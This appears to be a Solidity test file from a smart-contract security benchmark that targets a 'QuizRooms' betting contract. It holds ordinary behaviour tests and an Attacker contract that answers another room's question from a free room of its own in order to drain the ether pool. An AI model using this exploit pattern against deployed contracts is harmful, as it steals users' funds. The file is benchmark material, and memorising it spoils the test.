// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./QuizRooms.sol";

// assay-canary-abc490fc-8d00-4b39-b579-f54021b481cb

interface Vm {
    function deal(address who, uint256 wei_) external;
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Deaf {
    function play(QuizRooms quiz, uint256 room, uint256 question) external {
        quiz.answer(room, question, 0);
    }

    function enter(QuizRooms quiz, uint256 room) external payable {
        quiz.enter{value: msg.value}(room);
    }

    function collect(QuizRooms quiz, uint256 question) external {
        quiz.collect(question);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant HOST = address(0x405);
    address private constant IDA = address(0x1DA);
    address private constant OLE = address(0x01E);
    address private constant KAI = address(0x4A1);
    uint256 private constant START = 1_769_500_000;

    QuizRooms private quiz;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        quiz = new QuizRooms();
        vm.deal(address(this), 20 ether);
        vm.prank(HOST);
        quiz.openRoom(20 ether, 2);
        _enter(IDA);
        _enter(OLE);
        _enter(KAI);
        vm.prank(HOST);
        quiz.ask(0, 3, 1 hours);
        vm.prank(IDA);
        quiz.answer(0, 0, 2);
        mallory = new Attacker(quiz);
    }

    function _enter(address who) private {
        vm.deal(who, 20 ether);
        vm.prank(who);
        quiz.enter{value: 20 ether}(0);
    }

    function _answer(address who, uint256 question, uint8 choice) private {
        vm.prank(who);
        quiz.answer(0, question, choice);
    }

    function test_Regular() public {
        _answer(OLE, 0, 1);
        _answer(KAI, 0, 2);
        (uint8 best, uint256 votes, uint256 money) = quiz.bestOf(0);
        require(best == 2 && votes == 2 && money == 30 ether && quiz.roomOf(0) == 0, "two of three");
        vm.warp(START + 1 hours);
        vm.prank(IDA);
        require(quiz.collect(0) == 15 ether && IDA.balance == 15 ether, "a share");
        vm.prank(HOST);
        require(quiz.ask(0, 2, 2 hours) == 1, "second question");
        _answer(OLE, 1, 0);
        _answer(IDA, 1, 1);
        vm.warp(START + 3 hours);
        vm.prank(OLE);
        require(quiz.collect(1) == 30 ether && OLE.balance == 30 ether, "the first of two equal ones");
        vm.prank(KAI);
        require(quiz.collect(0) == 15 ether && address(quiz).balance == 0, "late");

        // another room, for nothing
        require(quiz.openRoom(0, 50) == 1, "opened");
        quiz.enter(1);
        require(quiz.ask(1, 2, 1 minutes) == 2 && quiz.inRoom(1, address(this)), "asked");
        quiz.answer(1, 2, 1);
    }

    function test_RefusesRooms() public {
        vm.expectRevert("bad count");
        quiz.openRoom(1, 0);
        vm.expectRevert("bad count");
        quiz.openRoom(1, 51);
        quiz.openRoom(1 ether, 1);
        vm.expectRevert("wrong price");
        quiz.enter(1);
        quiz.enter{value: 1 ether}(1);
        vm.expectRevert("wrong price");
        quiz.enter{value: 1 ether}(1);
        quiz.ask(1, 2, 1 minutes);
        vm.expectRevert("too late");
        quiz.enter{value: 1 ether}(1);
        vm.expectRevert("all asked");
        quiz.ask(1, 2, 1 minutes);
    }

    function test_RefusesQuestions() public {
        vm.expectRevert(abi.encodeWithSelector(QuizRooms.NotHost.selector, 0));
        quiz.ask(0, 2, 1 hours);
        vm.startPrank(HOST);
        vm.expectRevert("bad question");
        quiz.ask(0, 1, 1 hours);
        vm.expectRevert("bad question");
        quiz.ask(0, 2, 59);
        vm.stopPrank();
    }

    function test_RefusesAnswers() public {
        vm.expectRevert(abi.encodeWithSelector(QuizRooms.NotInRoom.selector, 0));
        quiz.answer(0, 0, 2);
        vm.startPrank(OLE);
        vm.expectRevert("no such choice");
        quiz.answer(0, 0, 3);
        quiz.answer(0, 0, 0);
        vm.expectRevert(abi.encodeWithSelector(QuizRooms.AlreadyAnswered.selector, 0));
        quiz.answer(0, 0, 1);
        vm.stopPrank();
        vm.warp(START + 1 hours);
        vm.prank(KAI);
        vm.expectRevert(abi.encodeWithSelector(QuizRooms.WrongMoment.selector, 0));
        quiz.answer(0, 0, 1);
    }

    function test_RefusesToPay() public {
        vm.startPrank(IDA);
        vm.expectRevert(abi.encodeWithSelector(QuizRooms.WrongMoment.selector, 0));
        quiz.collect(0);
        vm.stopPrank();
        _answer(OLE, 0, 1);
        vm.warp(START + 1 hours);
        vm.prank(OLE);
        vm.expectRevert(abi.encodeWithSelector(QuizRooms.Nothing.selector));
        quiz.collect(0);
        vm.startPrank(IDA);
        quiz.collect(0);
        vm.expectRevert(abi.encodeWithSelector(QuizRooms.Nothing.selector));
        quiz.collect(0);
        vm.stopPrank();
    }

    function test_RefusesPaymentsNobodyTakes() public {
        Deaf deaf = new Deaf();
        quiz.openRoom(1 ether, 1);
        deaf.enter{value: 1 ether}(quiz, 1);
        quiz.ask(1, 2, 1 minutes);
        deaf.play(quiz, 1, 1);
        vm.warp(START + 1 hours);
        vm.expectRevert("not taken");
        deaf.collect(quiz, 1);
    }

    function exploit() public {
        mallory.answer();
        vm.warp(START + 1 hours);
        mallory.collect();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 15 ether, "no gain");
    }

    function target() public view returns (address) {
        return address(quiz);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

/// Opens a room of its own, enters it for nothing, and answers a question of another one like those before.
contract Attacker {
    QuizRooms private quiz;

    constructor(QuizRooms quiz_) {
        quiz = quiz_;
    }

    function answer() external {
        uint256 room = quiz.openRoom(0, 1);
        quiz.enter(room);
        (uint8 best, , ) = quiz.bestOf(0);
        quiz.answer(room, 0, best);
    }

    function collect() external {
        quiz.collect(0);
    }

    receive() external payable {}
}
